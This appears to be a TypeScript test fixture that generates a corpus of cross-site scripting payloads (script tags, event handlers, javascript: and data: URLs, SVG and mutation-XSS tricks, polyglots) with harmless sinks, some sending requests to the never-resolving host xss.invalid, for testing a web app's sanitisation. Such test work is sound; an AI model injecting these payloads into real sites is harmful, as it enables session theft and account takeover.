// The XSS corpus of the browser suite: every payload calls a sink the hooks of xss-helpers.ts see when
// it runs (alert and its kin, a console line with the marker, a request to a foreign host, a popup, a
// navigation away). Sinks are rotated so each hook is exercised; `${S}` below is the sink's code.

/** What a console sink prints when it runs; the payload's own text spells it split, so echoes never match. */
export const CONSOLE_MARKER = 'XSSFIRED';
/** The foreign host of the network sinks (.invalid never resolves; the hooks abort it anyway). */
const SINK_HOST = 'xss.invalid';

type XssCategory =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'data-url'
  | 'svg-math'
  | 'mutation'
  | 'markdown'
  | 'network'
  | 'context-break'
  | 'polyglot';

export interface XssPayload {
  /** p001…: unique, also the sink's argument. */
  id: string;
  category: XssCategory;
  text: string;
}

// Sinks without spaces or double quotes, so they survive unquoted and double-quoted attributes.
const sinks: ((n: number) => string)[] = [
  (n) => `alert(${n})`,
  (n) => `console.log(/${CONSOLE_MARKER.slice(0, 3)}/.source+/${CONSOLE_MARKER.slice(3)}${n}/.source)`,
  (n) => `fetch(\`//${SINK_HOST}/f${n}\`)`,
  (n) => `navigator.sendBeacon(\`//${SINK_HOST}/b${n}\`)`,
  (n) => `confirm(${n})`,
  (n) => `window.open(\`//${SINK_HOST}/o${n}\`)`,
  (n) => `prompt(${n})`,
  (n) => `(new/**/Image).src=\`//${SINK_HOST}/i${n}\``,
  (n) => `print(${n})`,
  (n) => `top.location=\`//${SINK_HOST}/l${n}\``,
];

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
/** Every character as a hexadecimal character reference. */
const entities = (s: string) => [...s].map((c) => `&#x${c.codePointAt(0)?.toString(16)};`).join('');

type Template = (S: string, n: number) => string;

const templates: Record<XssCategory, Template[]> = {
  script: [
    (S) => `<script>${S}</script>`,
    (S) => `<ScRiPt>${S}</sCrIpT>`,
    (S) => `<script type=module>${S}</script>`,
    (S) => `<script>${S}//`,
    (S) => `<<script>script>${S}<</script>/script>`,
    (S) => `<scr<script>ipt>${S}</scr</script>ipt>`,
    (S) => `<script\ttype="text/javascript">${S};</script>`,
    (S) => `<script>eval(atob('${b64(S)}'))</script>`,
    (S) => `<script defer async>${S}</script>`,
    (S) => `<script/x>${S}</script>`,
    (S) => `<script src="data:text/javascript,${encodeURIComponent(S)}"></script>`,
    (_S, n) => `<script src=//${SINK_HOST}/s${n}.js></script>`,
  ],
  'event-handler': [
    (S) => `<img src=x onerror=${S}>`,
    (S) => `<img src="x" onerror="${S}">`,
    (S) => `<img/src/onerror=${S}>`,
    (S) => `<IMG SRC=x OnErRoR=${S}>`,
    (S) => `<img src=x onerror="${entities(S)}">`,
    (S) => `<body onload=${S}>`,
    (S) => `<body onpageshow=${S}>`,
    (S) => `<details open ontoggle=${S}>x</details>`,
    (S) => `<input autofocus onfocus=${S}>`,
    (S) => `<select autofocus onfocus=${S}></select>`,
    (S) => `<textarea autofocus onfocus=${S}></textarea>`,
    (S) => `<video><source onerror=${S}></video>`,
    (S) => `<audio src=x onerror=${S}></audio>`,
    (S) => `<iframe onload=${S}></iframe>`,
    (S) => `<object data=x onerror=${S}></object>`,
    (S) => `<marquee onstart=${S}>x</marquee>`,
    (S) => `<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=${S}>x</b>`,
    (S) => `<div tabindex=1 autofocus onfocusin=${S}>x</div>`,
    (S) => `<div style=position:fixed;inset:0 onpointermove=${S}>x</div>`,
    (S) => `<image src=x onerror=${S}>`,
    (S) => `<img src=x onerror=${S}//`,
    (S) => `<a href=# onclick=${S} id=x>x</a>`,
  ],
  'javascript-url': [
    (S) => `<a href=javascript:${S}>x</a>`,
    (S) => `<a href="JaVaScRiPt:${S}">x</a>`,
    (S) => `<a href="java&#x09;script:${S}">x</a>`,
    (S) => `<a href="java\tscript:${S}">x</a>`,
    (S) => `<a href="${entities('javascript:')}${S}">x</a>`,
    (S) => `<a href=" &#14; javascript:${S}">x</a>`,
    (S) => `<a href="javascript&colon;${S}">x</a>`,
    (S) => `<a href="jav&#x0A;ascript:${S}">x</a>`,
    (S) => `<a href="\u0001javascript:${S}">x</a>`,
    (S) => `<a href="javascript:${encodeURIComponent(S)}">x</a>`,
    (S) => `<iframe src=javascript:${S}></iframe>`,
    (S) => `<embed src=javascript:${S}>`,
    (S) => `<form action=javascript:${S}><input type=submit></form>`,
    (S) => `<form><button formaction=javascript:${S}>x</button></form>`,
    (S) => `<meta http-equiv=refresh content="0;url=javascript:${S}">`,
    (S) => `<base href=javascript:${S}//>`,
    (S) => `<object data=javascript:${S}></object>`,
  ],
  'data-url': [
    (S) => `<a href="data:text/html;base64,${b64(`<script>${S}</script>`)}">x</a>`,
    (S) => `<iframe src="data:text/html;base64,${b64(`<script>${S}</script>`)}"></iframe>`,
    (S) => `<object data="data:text/html;base64,${b64(`<script>${S}</script>`)}"></object>`,
    (S) => `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${S}"/>`)}">`,
    (S) => `<script src="data:text/javascript;base64,${b64(S)}"></script>`,
    (S) => `<iframe src="data:text/html,<script>${S}</script>"></iframe>`,
    (S) => `<a href=DATA:text/html,%3Cscript%3E${encodeURIComponent(S)}%3C/script%3E>x</a>`,
    (S) => `<meta http-equiv=refresh content="0;url=data:text/html;base64,${b64(`<script>${S}</script>`)}">`,
  ],
  'svg-math': [
    (S) => `<svg onload=${S}>`,
    (S) => `<svg/onload=${S}>`,
    (S) => `<svg><script>${S}</script></svg>`,
    (S) => `<svg><script href="data:,${S}"/></svg>`,
    (S) => `<svg><animate onbegin=${S} attributeName=x dur=1s>`,
    (S) => `<svg><set onbegin=${S} attributeName=x to=1>`,
    (S) => `<svg><a><animate attributeName=href values=javascript:${S} /><text x=20 y=20>x</text></a></svg>`,
    (S) => `<svg><image href=x onerror=${S} /></svg>`,
    (S) => `<svg><foreignObject><img src=x onerror=${S}></foreignObject></svg>`,
    (S) =>
      `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${S}"/></svg>`)}#x"/></svg>`,
    (S) => `<svg><discard onbegin=${S} />`,
    (S) => `<math href=javascript:${S}>x</math>`,
    (S) => `<math><maction actiontype=statusline xlink:href=javascript:${S}>x</maction></math>`,
  ],
  mutation: [
    (S) => `<noscript><p title="</noscript><img src=x onerror=${S}>">`,
    (S) => `<svg></p><style><a id="</style><img src=1 onerror=${S}>">`,
    (S) => `<math><mtext><table><mglyph><style><img src=x onerror=${S}>`,
    (S) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${S}>`,
    (S) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${S}>">`,
    (S) => `<svg><p><style><a id="</style><img src=1 onerror=${S}>">`,
    (S) => `<template><style></template><img src=x onerror=${S}>`,
    (S) => `<style><img src=x onerror=${S}></style>`,
    (S) => `<xmp><img src=x onerror=${S}></xmp>`,
    (S) => `<noembed><img title="</noembed><img src=x onerror=${S}>"></noembed>`,
    (S) => `<noframes><img title="</noframes><img src=x onerror=${S}>"></noframes>`,
    (S) => `<iframe><img title="</iframe><img src=x onerror=${S}>"></iframe>`,
    (S) => `<textarea><img title="</textarea><img src=x onerror=${S}>"></textarea>`,
    (S) => `<title><img title="</title><img src=x onerror=${S}>"></title>`,
    (S) => `<!--><img src=x onerror=${S}>-->`,
    (S) => `<!--<img src="--><img src=x onerror=${S}//">`,
    (S) => `<p>&lt;img src=x onerror=${S}&gt;</p>`,
    (S) => `<svg><![CDATA[><img src=x onerror=${S}>]]></svg>`,
    (S) => `<listing>&lt;img src=x onerror=${S}&gt;</listing>`,
    (S) => `<a title="</a><img src=x onerror=${S}>">x</a>`,
  ],
  markdown: [
    (S) => `[x](javascript:${S})`,
    (S) => `[x](JaVaScRiPt:${S})`,
    (S) => `![x](javascript:${S})`,
    (S) => `[x](data:text/html;base64,${b64(`<script>${S}</script>`)})`,
    (S) => `[x]( javascript:${S} )`,
    (S) => `<javascript:${S}>`,
    (S) => `[x](javascript&#58;${S})`,
    (S) => `[x][r]\n\n[r]: javascript:${S}`,
  ],
  network: [
    (_S, n) => `<img src=//${SINK_HOST}/n${n}>`,
    (_S, n) => `<link rel=stylesheet href=//${SINK_HOST}/n${n}.css>`,
    (_S, n) => `<img srcset=//${SINK_HOST}/n${n}>`,
    (_S, n) => `<video poster=//${SINK_HOST}/n${n}></video>`,
    (_S, n) => `<input type=image src=//${SINK_HOST}/n${n}>`,
    (_S, n) => `<div style="background:url(//${SINK_HOST}/n${n})">x</div>`,
    (_S, n) => `<style>@import'//${SINK_HOST}/n${n}';</style>`,
    (_S, n) => `<meta http-equiv=refresh content="0;url=//${SINK_HOST}/n${n}">`,
  ],
  'context-break': [
    (S) => `"><img src=x onerror=${S}>`,
    (S) => `'><img src=x onerror=${S}>`,
    (S) => `" autofocus onfocus=${S} x="`,
    (S) => `' autofocus onfocus=${S} x='`,
    (S) => `</title><img src=x onerror=${S}>`,
    (S) => `</textarea><img src=x onerror=${S}>`,
    (S) => `</style><img src=x onerror=${S}>`,
    (S) => `</script><img src=x onerror=${S}>`,
    (S) => `--><img src=x onerror=${S}>`,
    (S) => `"};${S};//`,
    (S) => `\u2028${S}//\u2029`,
    (S) => `{{constructor.constructor('${S}')()}}`,
    (S) => `\${${S}}`,
  ],
  polyglot: [
    (S) =>
      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${S} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${S}//>\\x3e`,
    (S) =>
      `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=${S}//>`,
    (S) =>
      `'">><marquee><img src=x onerror=${S}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1) ><script>${S}</script>`,
    (S) => `<x onxxx=${S}>--!><svg/onload=${S}>\`'"`,
  ],
};

function build(): XssPayload[] {
  const out: XssPayload[] = [];
  for (const [category, list] of Object.entries(templates) as [XssCategory, Template[]][]) {
    for (const template of list) {
      const n = out.length + 1;
      out.push({ id: `p${String(n).padStart(3, '0')}`, category, text: template(sinks[n % sinks.length](n), n) });
    }
  }
  return out;
}

/** The whole corpus, in categories. */
export const xssCorpus: readonly XssPayload[] = build();

/** Short ones for the 20-character fields (a slip pick's expected result). */
export const shortPayloads: readonly string[] = [
  '<script>alert(1)',
  '<svg onload=alert``>',
  '<svg/onload=alert()>',
  '"><svg/onload=alert>',
  "'><svg onload=print>",
  '<img/src/onerror=>',
  '<x onclick=alert(1)>',
  '<a href=javascript:>',
  '</title><svg/onload',
  '<!--><svg onload=>',
  '[x](javascript:1)',
  'javascript:alert(1)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, as typed.
  '{{7*7}}${alert(1)}',
  '<style>*{x:y}</style',
];

/** Profile links: the server takes only http(s) URLs without spaces, so the payload rides inside one. */
export const urlPayloads: readonly string[] = [
  'https://x.invalid/"><svg/onload=alert(201)>',
  "https://x.invalid/'onmouseover='alert(202)",
  'https://x.invalid/#"onfocus="alert(203)"autofocus="',
  'https://x.invalid/</title><script>alert(204)</script>',
  'https://javascript:alert(205)@x.invalid',
  'https://x.invalid/?q=<img/src/onerror=alert(206)>',
  'http://x.invalid/"style="background:url(//xss.invalid/u207)',
  'https://x.invalid/%22%3E%3Cscript%3Ealert(208)%3C/script%3E',
  'https://x.invalid/javascript:alert(209)',
  'HTTPS://x.invalid/"><iframe/src=javascript:alert(210)>',
];
